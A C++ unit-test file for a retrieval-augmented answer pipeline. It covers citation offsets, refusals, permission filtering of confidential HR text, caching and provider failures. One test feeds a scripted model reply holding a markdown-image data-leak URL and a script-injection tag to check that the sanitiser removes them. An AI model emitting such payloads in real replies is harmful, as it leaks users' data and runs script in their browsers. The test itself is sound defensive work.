// The answer pipeline on a fake retriever: extractive answers and refusals,
// citations mapped to chunks, the permission filter with a provider that echoes
// its context, follow-ups, the cache, provider failures.
#include "assistant/pipeline.h"

#include <gtest/gtest.h>

#include <atomic>

#include "assistant/embedding_similarity.h"
#include "assistant/lru_answer_cache.h"
#include "fake_retriever.h"
#include "llm/stand_in_providers.h"

namespace sanad::assistant {
namespace {

using testing::FakeRetriever;
using testing::passage;

class Collect : public AnswerEvents {
 public:
  bool on_delta(std::string_view text) override {
    deltas.emplace_back(text);
    return true;
  }
  void on_citations(const std::vector<Citation>& c) override {
    citations = c;
    ++citation_events;
  }
  std::string joined() const {
    std::string s;
    for (const auto& d : deltas) s += d;
    return s;
  }
  std::vector<std::string> deltas;
  std::vector<Citation> citations;
  int citation_events = 0;
};

// Replies with a fixed text; counts calls.
class ScriptedProvider : public llm::ChatProvider {
 public:
  explicit ScriptedProvider(std::vector<std::string> pieces, Status result = Status::ok())
      : pieces_(std::move(pieces)), result_(std::move(result)) {}
  std::string_view name() const override { return "scripted"; }
  Status stream(const llm::ChatRequest& request, llm::StreamSink& sink) override {
    ++calls;
    last_system = request.system;
    for (const auto& p : pieces_) {
      if (!sink.on_delta(p)) return Status::ok();
    }
    if (!result_) return result_;
    sink.on_finish(llm::ChatOutcome{});
    return Status::ok();
  }
  std::atomic<int> calls{0};
  std::string last_system;

 private:
  std::vector<std::string> pieces_;
  Status result_;
};

const std::string kLeave = "Chaque salarie a droit a 25 jours de conges payes par an. Les conges se posent dans l'outil RH.";
const std::string kBadge = "Le badge d'acces est remis le premier jour par l'accueil.";
const std::string kSecret = "Le plan social confidentiel prevoit 40 suppressions de postes en conges.";

std::vector<retrieval::Passage> corpus() {
  return {passage("leave", "public", 0, kLeave, "fr", 1000), passage("badge", "public", 0, kBadge),
          passage("secret", "hr", 0, kSecret)};
}

search::AccessFilter public_only() {
  search::AccessFilter f;
  f.folders.insert("public");
  return f;
}

// Asks `question` as a reader of `access` (the public folder by default).
Result<AnswerResult> ask(const AnswerPipeline& pipeline, const std::string& question, Collect& events,
                         const search::AccessFilter& access = public_only()) {
  AnswerRequest req;
  req.question = question;
  req.access = access;
  return pipeline.answer(req, events);
}

TEST(Pipeline, ExtractiveAnswerCitesTheChunkWithExactOffsets) {
  FakeRetriever retriever(corpus());
  AnswerPipeline pipeline(retriever, nullptr, nullptr, nullptr, nullptr);
  Collect events;
  auto r = ask(pipeline, "Combien de jours de conges payes par an ?", events);
  ASSERT_TRUE(r.is_ok()) << r.status().to_string();
  EXPECT_TRUE(r->answered);
  EXPECT_EQ(r->origin, "extractive");
  EXPECT_EQ(r->language, "fr");
  ASSERT_EQ(r->citations.size(), 1u);
  const Citation& c = r->citations[0];
  EXPECT_EQ(c.document_id, "leave");
  EXPECT_EQ(c.chunk_id, "leave#0");
  EXPECT_EQ(c.page, 1);
  EXPECT_EQ(c.quote, "Chaque salarie a droit a 25 jours de conges payes par an.");
  EXPECT_EQ(c.start, 1000);
  EXPECT_EQ(c.end, 1000 + static_cast<int64_t>(c.quote.size()));
  EXPECT_EQ(events.joined(), r->text);
  EXPECT_GE(events.deltas.size(), 2u);
  EXPECT_EQ(events.citation_events, 1);
  std::vector<std::string> stages;
  for (const auto& [stage, ms] : r->timings) {
    stages.push_back(stage);
    EXPECT_GE(ms, 0.0);
  }
  EXPECT_EQ(stages, (std::vector<std::string>{"analyse", "retrieve", "context", "generate", "verify", "total"}));
}

TEST(Pipeline, RefusesInTheQuestionsLanguageWithoutEvidence) {
  FakeRetriever retriever(corpus());
  AnswerPipeline pipeline(retriever, nullptr, nullptr, nullptr, nullptr);
  Collect events;
  auto r = ask(pipeline, "What is the parking policy for visitors?", events);
  ASSERT_TRUE(r.is_ok());
  EXPECT_FALSE(r->answered);
  EXPECT_TRUE(r->citations.empty());
  EXPECT_EQ(r->text, refusal_text("en"));
  EXPECT_EQ(events.citation_events, 1);
}

TEST(Pipeline, RestrictedTextNeverReachesTheModelOrTheReply) {
  FakeRetriever retriever(corpus());
  llm::EchoProvider echo;
  PipelineOptions options;
  options.min_evidence = 0.0;
  AnswerPipeline pipeline(retriever, &echo, nullptr, nullptr, nullptr, options);
  Collect events;
  auto r = ask(pipeline, "conges payes par an", events);
  ASSERT_TRUE(r.is_ok()) << r.status().to_string();
  EXPECT_NE(r->text.find("25 jours de conges"), std::string::npos) << "the echo shows the public context";
  EXPECT_EQ(r->text.find("plan social"), std::string::npos);
  EXPECT_EQ(r->text.find("suppressions"), std::string::npos);
  search::AccessFilter hr;
  hr.folders.insert("hr");
  Collect hr_events;
  auto allowed = ask(pipeline, "conges payes par an", hr_events, hr);
  ASSERT_TRUE(allowed.is_ok());
  EXPECT_NE(allowed->text.find("plan social"), std::string::npos) << "control: the echo shows what is allowed";
}

TEST(Pipeline, ModelIsNotCalledOnWeakEvidenceAndUnbackedRepliesAreNotAnswers) {
  FakeRetriever retriever(corpus());
  ScriptedProvider model({"Les conges sont de 99 jours [7]. ", "Voir aussi [2]."});
  AnswerPipeline pipeline(retriever, &model, nullptr, nullptr, nullptr);
  Collect weak;
  auto r = ask(pipeline, "Quelle est la couleur du logo de la cantine ?", weak);
  ASSERT_TRUE(r.is_ok());
  EXPECT_EQ(model.calls, 0);
  EXPECT_FALSE(r->answered);

  Collect events;
  auto s = ask(pipeline, "Combien de jours de conges payes ?", events);
  ASSERT_TRUE(s.is_ok()) << s.status().to_string();
  EXPECT_EQ(model.calls, 1);
  EXPECT_EQ(s->text.find("[7]"), std::string::npos) << s->text;
  EXPECT_FALSE(s->answered) << "[7] names no source and only one source was given";
  EXPECT_NE(s->text.find(refusal_text("fr")), std::string::npos);
}

TEST(Pipeline, ModelRepliesAreVerifiedAndSanitisedWhileStreaming) {
  FakeRetriever retriever(corpus());
  ScriptedProvider model({"Selon le guide, \"25 jours de conges", " payes par an\" [1]. ",
                          "![x](http://127.0.0.2/leak?d=secret) <script>alert(1)</script> ",
                          "\"40 semaines\" [1]."});
  AnswerPipeline pipeline(retriever, &model, nullptr, nullptr, nullptr);
  Collect events;
  auto r = ask(pipeline, "Combien de jours de conges payes ?", events);
  ASSERT_TRUE(r.is_ok()) << r.status().to_string();
  EXPECT_TRUE(r->answered);
  EXPECT_EQ(r->text.find("127.0.0.2"), std::string::npos) << r->text;
  EXPECT_EQ(r->text.find("<script>"), std::string::npos) << r->text;
  ASSERT_EQ(r->citations.size(), 1u);
  EXPECT_EQ(r->citations[0].quote, "25 jours de conges payes par an");
  EXPECT_EQ(r->citations[0].chunk_id, "leave#0");
  EXPECT_EQ(r->citations[0].start, 1000 + static_cast<int64_t>(kLeave.find("25 jours")));
  EXPECT_NE(r->text.find("\"40 semaines\""), std::string::npos);
  EXPECT_EQ(r->text.find("\"40 semaines\" [1]"), std::string::npos) << "the false quote loses its citation";
  EXPECT_GE(events.deltas.size(), 2u) << "pieces are streamed, not held to the end";
  EXPECT_EQ(events.joined(), r->text);
  bool has_before_generate = false;
  for (const auto& [stage, ms] : r->timings) has_before_generate = has_before_generate || stage == "before_generate";
  EXPECT_TRUE(has_before_generate);
}

TEST(Pipeline, ProviderFailureIsReturned) {
  FakeRetriever retriever(corpus());
  ScriptedProvider model({"Partial "}, unavailable("provider down"));
  AnswerPipeline pipeline(retriever, &model, nullptr, nullptr, nullptr);
  Collect events;
  auto r = ask(pipeline, "Combien de jours de conges payes ?", events);
  ASSERT_FALSE(r.is_ok());
  EXPECT_EQ(r.status().code(), ErrorCode::kUnavailable);
}

TEST(Pipeline, FollowUpIsSearchedWithThePreviousQuestion) {
  FakeRetriever retriever(corpus());
  AnswerPipeline pipeline(retriever, nullptr, nullptr, nullptr, nullptr);
  AnswerRequest req;
  req.question = "et pour les cadres ?";
  req.history = {{llm::Role::kUser, "Combien de jours de conges payes ?"}, {llm::Role::kAssistant, "25 jours"}};
  req.access = public_only();
  Collect events;
  auto r = pipeline.answer(req, events);
  ASSERT_TRUE(r.is_ok());
  EXPECT_EQ(r->retrieval_query, "Combien de jours de conges payes ? et pour les cadres ?");
  EXPECT_EQ(retriever.last_query(), r->retrieval_query);
}

TEST(Pipeline, CacheServesTheSameQuestionUntilTheIndexMoves) {
  FakeRetriever retriever(corpus());
  LruAnswerCache cache(8);
  AnswerPipeline pipeline(retriever, nullptr, nullptr, nullptr, &cache);
  AnswerRequest req;
  req.question = "Combien de jours de conges payes ?";
  req.access = public_only();
  Collect a, b, c, d;
  auto first = pipeline.answer(req, a);
  auto second = pipeline.answer(req, b);
  ASSERT_TRUE(first.is_ok() && second.is_ok());
  EXPECT_EQ(second->origin, "cache");
  EXPECT_EQ(second->text, first->text);
  EXPECT_EQ(second->citations.size(), first->citations.size());
  EXPECT_EQ(retriever.calls(), 1);
  search::AccessFilter other = public_only();
  other.folders.insert("hr");
  req.access = other;
  ASSERT_TRUE(pipeline.answer(req, c).is_ok());
  EXPECT_EQ(retriever.calls(), 2) << "another permission set is another key";
  req.access = public_only();
  retriever.set_version(2);
  auto after = pipeline.answer(req, d);
  ASSERT_TRUE(after.is_ok());
  EXPECT_EQ(after->origin, "extractive");
  EXPECT_EQ(retriever.calls(), 3);
  EXPECT_EQ(pipeline.cache_counts().hits, 1u);
  EXPECT_EQ(pipeline.cache_counts().misses, 3u);
}

TEST(Pipeline, EmptyQuestionIsInvalid) {
  FakeRetriever retriever(corpus());
  AnswerPipeline pipeline(retriever, nullptr, nullptr, nullptr, nullptr);
  AnswerRequest req;
  req.question = "   ";
  Collect events;
  EXPECT_EQ(pipeline.answer(req, events).status().code(), ErrorCode::kInvalidArgument);
}

// Two-dimensional vectors: queries and sentences mentioning "25" point one way,
// other sentences the other. Counts what it embeds.
class StubEmbedder : public embed::Embedder {
 public:
  Result<std::vector<std::vector<float>>> embed(const std::vector<std::string>& texts,
                                                embed::InputKind kind) override {
    std::vector<std::vector<float>> out;
    for (const auto& t : texts) {
      bool close = kind == embed::InputKind::kQuery || t.find("25") != std::string::npos;
      out.push_back(close ? std::vector<float>{1, 0} : std::vector<float>{0, 1});
    }
    (kind == embed::InputKind::kQuery ? query_calls : passage_calls) += 1;
    return out;
  }
  size_t dimension() const override { return 2; }
  std::string model_id() const override { return "stub"; }
  std::atomic<int> query_calls{0};
  std::atomic<int> passage_calls{0};
};

TEST(Pipeline, EmbeddingSimilarityPicksAmongEquallyCoveringSentencesAndIsTimed) {
  const std::string where = "Les conges payes se posent dans l'outil RH du groupe.";
  const std::string how_many = "Les conges payes sont de 25 jours ouvres par an.";
  FakeRetriever retriever({passage("where", "public", 0, where), passage("how-many", "public", 0, how_many)});
  {
    AnswerPipeline plain(retriever, nullptr, nullptr, nullptr, nullptr);
    Collect events;
    auto r = ask(plain, "conges payes ?", events);
    ASSERT_TRUE(r.is_ok()) << r.status().to_string();
    ASSERT_FALSE(r->citations.empty());
    EXPECT_EQ(r->citations.front().document_id, "where");
  }
  StubEmbedder embedder;
  AnswerPipeline pipeline(retriever, nullptr, nullptr, nullptr, nullptr, {}, &embedder);
  Collect events;
  auto r = ask(pipeline, "conges payes ?", events);
  ASSERT_TRUE(r.is_ok()) << r.status().to_string();
  ASSERT_TRUE(r->answered);
  ASSERT_FALSE(r->citations.empty());
  EXPECT_EQ(r->citations.front().document_id, "how-many");
  EXPECT_EQ(r->citations.front().quote, how_many);
  EXPECT_EQ(embedder.passage_calls, 1) << "the candidate sentences go in one batch";
  EXPECT_EQ(embedder.query_calls, 1) << "the fake retriever computed no query vector to reuse";
  std::vector<std::string> stages;
  for (const auto& [stage, ms] : r->timings) stages.push_back(stage);
  EXPECT_EQ(stages,
            (std::vector<std::string>{"analyse", "retrieve", "context", "generate", "similarity", "verify", "total"}));
}

TEST(EmbeddingSimilarity, ReusesTheQueryVectorForTheSameText) {
  StubEmbedder embedder;
  auto similarity = embedding_similarity(embedder, "conges payes", {1, 0});
  auto same = similarity("conges payes", {"25 jours", "dans l'outil"});
  ASSERT_TRUE(same.is_ok());
  EXPECT_EQ(embedder.query_calls, 0);
  ASSERT_EQ(same->size(), 2u);
  EXPECT_NEAR((*same)[0], 1.0, 1e-9);
  EXPECT_NEAR((*same)[1], 0.0, 1e-9);
  auto other = similarity("autre question", {"25 jours"});
  ASSERT_TRUE(other.is_ok());
  EXPECT_EQ(embedder.query_calls, 1);
  EXPECT_NEAR(cosine({3, 4}, {6, 8}), 1.0, 1e-9);
  EXPECT_EQ(cosine({0, 0}, {1, 0}), 0.0);
  EXPECT_EQ(cosine({1}, {1, 0}), 0.0);
}

TEST(Pipeline, ReplyLanguage) {
  EXPECT_EQ(reply_language("Combien de jours de congés payés ai-je par an ?", ""), "fr");
  EXPECT_EQ(reply_language("How many days of paid leave do I get each year?", "fr"), "en");
  EXPECT_EQ(reply_language("كم عدد أيام العطلة السنوية؟", ""), "ar");
  EXPECT_EQ(reply_language("ok", "ar"), "ar");
}

}  // namespace
}  // namespace sanad::assistant
